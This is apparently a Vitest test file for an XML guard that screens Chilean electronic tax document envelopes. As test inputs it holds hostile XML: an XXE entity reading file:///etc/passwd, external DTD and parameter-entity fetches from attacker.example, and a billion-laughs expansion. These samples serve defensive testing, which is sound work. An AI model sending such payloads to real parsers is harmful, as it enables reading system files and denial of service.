import { describe, expect, it } from 'vitest';
import { isAppError } from '../../errors.ts';
import { guardXml, MAX_DEPTH } from './received.xml-guard.ts';

const codeOf = (xml: string | Buffer): string | null => {
  try {
    guardXml(typeof xml === 'string' ? Buffer.from(xml, 'latin1') : xml);
    return null;
  } catch (e) {
    if (!isAppError(e)) throw e;
    expect(e.kind).toBe('invalid_request');
    return e.code;
  }
};

const ENVELOPE =
  '<?xml version="1.0" encoding="ISO-8859-1"?>\n<EnvioDTE xmlns="http://www.sii.cl/SiiDte" version="1.0"><SetDTE ID="S"><DTE version="1.0"><Documento ID="D"/></DTE><DTE version="1.0"><Documento ID="E"/></DTE></SetDTE></EnvioDTE>';

describe('guardXml', () => {
  it('lets an ordinary envelope through and counts its DTEs (comments and CDATA without DTEs are fine)', () => {
    expect(guardXml(Buffer.from(ENVELOPE, 'latin1'))).toEqual({ dteElements: 2 });
    expect(codeOf(ENVELOPE.replace('<SetDTE', '<!-- a comment > with a bracket --><SetDTE'))).toBeNull();
    expect(codeOf(ENVELOPE.replace('<Documento ID="D"/>', '<Documento ID="D"><![CDATA[ x < y ]]></Documento>'))).toBeNull();
    expect(codeOf(ENVELOPE.replace('ID="S"', 'ID="S" a=\'1>2\''))).toBeNull();
  });

  it('refuses XXE: an external entity or DTD', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE EnvioDTE [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><EnvioDTE>&xxe;</EnvioDTE>';
    expect(codeOf(xxe)).toBe('xml_external_entity_forbidden');
    expect(codeOf('<!DOCTYPE EnvioDTE SYSTEM "http://attacker.example/x.dtd"><EnvioDTE/>')).toBe('xml_external_entity_forbidden');
    expect(codeOf('<!DOCTYPE EnvioDTE [<!ENTITY % p PUBLIC "x" "http://attacker.example/p">%p;]><EnvioDTE/>')).toBe(
      'xml_external_entity_forbidden',
    );
  });

  it('refuses entity expansion ("billion laughs") and any other DOCTYPE', () => {
    const lol =
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>';
    expect(codeOf(lol)).toBe('xml_entity_expansion_forbidden');
    expect(codeOf('<!doctype EnvioDTE><EnvioDTE/>')).toBe('xml_doctype_forbidden');
    expect(codeOf('<EnvioDTE><!ELEMENT x ANY></EnvioDTE>')).toBe('xml_malformed');
  });

  it('refuses UTF-16 and NUL bytes, an empty body and unterminated markup', () => {
    expect(codeOf(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ENVELOPE, 'utf16le')]))).toBe('xml_encoding_unsupported');
    expect(codeOf(Buffer.from(ENVELOPE, 'utf16le'))).toBe('xml_encoding_unsupported');
    expect(codeOf('<a>\u0000</a>')).toBe('xml_encoding_unsupported');
    expect(codeOf('')).toBe('xml_malformed');
    expect(codeOf('<a><!-- no end')).toBe('xml_malformed');
    expect(codeOf('<a b="1')).toBe('xml_malformed');
  });

  it(`refuses nesting deeper than ${MAX_DEPTH} levels`, () => {
    expect(codeOf('<a>'.repeat(MAX_DEPTH) + '</a>'.repeat(MAX_DEPTH))).toBeNull();
    expect(codeOf('<a>'.repeat(MAX_DEPTH + 1) + '</a>'.repeat(MAX_DEPTH + 1))).toBe('xml_too_deep');
    expect(codeOf('<a>'.repeat(100_000))).toBe('xml_too_deep');
  });

  it('refuses a DTE hidden in a comment, where the verifier would cut it out of the raw text', () => {
    expect(codeOf(ENVELOPE.replace('</SetDTE>', '<!-- <DTE version="1.0"><Documento ID="F"/></DTE> --></SetDTE>'))).toBe('xml_malformed');
    expect(codeOf(ENVELOPE.replace('</SetDTE>', '<![CDATA[<DTE>]]></SetDTE>'))).toBe('xml_malformed');
  });
});
